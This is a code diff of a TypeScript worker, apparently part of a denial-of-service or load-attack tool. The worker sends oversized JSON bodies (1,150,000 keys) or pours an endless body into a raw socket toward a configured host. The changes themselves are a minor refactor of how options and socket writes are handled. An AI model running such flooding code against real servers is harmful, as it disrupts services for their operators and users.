@@ -15,8 +15,7 @@ export type Attack = {
   readonly pauseMs: number;
 };
 
-const { kind, port, host, path, cookie, lanes, pauseMs } = workerData as Attack & { zoneid: string };
-const zoneid = (workerData as { zoneid: string }).zoneid;
+const { kind, port, host, path, cookie, lanes, pauseMs, zoneid } = workerData as Attack & { readonly zoneid: string };
 
 function bodyOf(): string | null {
   if (kind === "names") return `{${Array.from({ length: 1_150_000 }, (_, n) => `"k${n}":0`).join(",")}}`;
@@ -50,12 +49,12 @@ function call(): Promise<void> {
     // An endless body goes on whatever is answered; others end with the answer.
     if (bytes !== null) socket.once("data", end);
     socket.write(`${head}\r\n\r\n`);
-    if (bytes !== null) return void socket.write(bytes);
     const pour = () => {
       while (!socket.destroyed && socket.write(chunk));
     };
-    socket.on("drain", pour);
-    pour();
+    if (bytes === null) socket.on("drain", pour);
+    if (bytes === null) pour();
+    else socket.write(bytes);
   });
 }
 
